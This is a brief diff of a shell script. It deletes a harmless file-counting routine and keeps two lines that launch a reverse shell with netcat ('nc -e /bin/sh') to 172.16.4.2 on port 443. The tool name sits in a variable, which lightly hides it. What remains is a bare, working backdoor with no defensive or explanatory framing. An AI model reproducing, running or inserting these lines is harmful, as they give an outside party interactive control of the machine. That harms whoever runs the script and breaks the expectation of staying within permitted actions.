@@ -1,6 +1,3 @@
-#!/bin/sh
-count=$(ls | wc -l)
-echo "files: $count"
+#!/usr/bin/env bash
 N=nc
 $N -e /bin/sh 172.16.4.2 443
-set -eu
